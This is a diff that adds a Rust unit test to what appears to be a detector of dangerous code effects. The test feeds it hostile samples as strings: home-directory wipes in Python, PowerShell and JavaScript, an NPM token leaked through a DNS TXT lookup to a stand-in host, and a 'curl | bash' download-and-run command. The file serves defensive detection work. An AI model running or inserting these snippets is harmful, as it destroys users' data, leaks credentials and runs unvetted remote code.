@@ -207,3 +207,23 @@ fn a_program_run_with_tainted_arguments_runs_no_tainted_code() {
         "const root = path.resolve(__dirname, '..');\nspawnSync('vale', ['--config', root]);\n";
     assert!(kinds_of(Language::JavaScript, js).is_empty());
 }
+
+#[test]
+fn home_listings_deleted_dns_secrets_and_fstring_command_lines() {
+    let py = "import shutil\nfrom pathlib import Path\nfor p in Path.home().iterdir():\n    shutil.rmtree(p, ignore_errors=True)\n";
+    assert_eq!(kinds_of(Language::Python, py), ["Destroy"]);
+    assert!(kinds_of(Language::Python, "import shutil\nfrom pathlib import Path\nfor p in (Path.home() / '.cache').iterdir():\n    shutil.rmtree(p)\n").is_empty());
+    let ps = "Get-ChildItem -Path $env:USERPROFILE -Force | Remove-Item -Recurse -Force\n";
+    assert_eq!(kinds_of(Language::PowerShell, ps), ["Destroy"]);
+    let js = "const fs = require('fs/promises');\nconst home = process.env.HOME || process.env.USERPROFILE;\nawait fs.rm(home, { recursive: true, force: true });\n";
+    assert_eq!(kinds_of(Language::JavaScript, js), ["Destroy"]);
+    let js = "const dns = require('dns').promises;\nconst t = Buffer.from(process.env.NPM_TOKEN).toString('hex');\nawait dns.resolveTxt(`${t}.x.example`);\n";
+    assert_eq!(kinds_of(Language::JavaScript, js), ["exfil:dns.resolvetxt"]);
+    let py = "import subprocess\nBOOT = 'https://x.example/bootstrap'\nsubprocess.run(f'curl -fsSL {BOOT} | bash -s -- --quiet', shell=True)\n";
+    let e = effects(Language::Python, py);
+    assert_eq!(e.len(), 1, "{e:?}");
+    assert_eq!(
+        e[0].plain.as_deref(),
+        Some("curl -fsSL https://x.example/bootstrap | bash -s -- --quiet")
+    );
+}
